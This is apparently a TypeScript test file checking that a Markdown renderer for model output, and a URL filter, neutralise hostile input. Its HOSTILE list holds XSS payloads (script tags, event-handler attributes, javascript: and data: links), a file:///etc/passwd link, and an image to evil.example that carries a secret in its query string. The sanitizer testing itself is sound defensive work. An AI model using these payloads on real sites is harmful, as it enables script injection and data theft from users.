import { screen, waitFor } from '@testing-library/react'
import { describe, expect, it } from 'vitest'
import { fakeBullpen, renderWith } from '../../testing/fake-bullpen.tsx'
import { safeAddress } from '../external-link.tsx'
import { Markdown } from './markdown.tsx'

const show = async (text: string) => {
  const { container } = renderWith(fakeBullpen({}), <Markdown text={`${text}\n\nend-mark`} />)
  await waitFor(() => expect(screen.getByText('end-mark').className).not.toContain('plain'))
  return container
}

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { display: none }</style>',
  '<svg onload="window.pwned = 1"></svg>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<form action="https://evil.example"><input name="x"></form>',
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](java&#x09;script:window.pwned=1)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](http://plain.example/)',
  '[x](//evil.example/)',
  '[x](https://user:pass@evil.example/)',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x][ref]\n\n[ref]: https://evil.example/pixel.png',
  '<javascript:window.pwned=1>',
  '[x]: javascript:window.pwned=1\n\n[x]',
]

describe('Markdown of a model', () => {
  it.each(HOSTILE)('makes nothing dangerous of %s', async (text) => {
    const container = await show(text)
    expect(
      container.querySelectorAll('script, img, iframe, style, svg:not([class*="lucide"]), form, object, embed'),
    ).toHaveLength(0)
    for (const link of container.querySelectorAll('a')) {
      expect(link.getAttribute('href')).toMatch(/^(https:\/\/(?!user)|mailto:)/)
      expect(link.getAttribute('rel')).toBe('noopener noreferrer')
      expect(link.getAttribute('target')).toBe('_blank')
    }
    for (const element of container.querySelectorAll('*')) {
      expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([])
    }
  })

  it('shows an image as a link to it, with its words', async () => {
    const container = await show('![a chart](https://example.com/chart.png)')
    expect(container.querySelector('a')?.textContent).toBe('a chart')
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://example.com/chart.png')
  })

  it('shows tables, task lists and code', async () => {
    const container = await show('| a |\n|---|\n| 1 |\n\n- [x] done\n\n```js\nlet a\n```')
    expect(container.querySelector('td')?.textContent).toBe('1')
    expect(container.querySelector<HTMLInputElement>('input[type=checkbox]')?.checked).toBe(true)
    expect(container.querySelector('pre')?.textContent).toBe('let a')
  })
})

describe('safeAddress', () => {
  it.each(['https://example.com/a?b#c', 'mailto:ada@example.org'])('lets %s through', (address) => {
    expect(safeAddress(address)).toBe(address)
  })
  it.each(['', 'example.com', 'http://example.com/', 'javascript:1', 'blob:https://a/b', 'https://u:p@a/', 'app://x/'])(
    'refuses %j',
    (address) => {
      expect(safeAddress(address)).toBeNull()
    },
  )
})
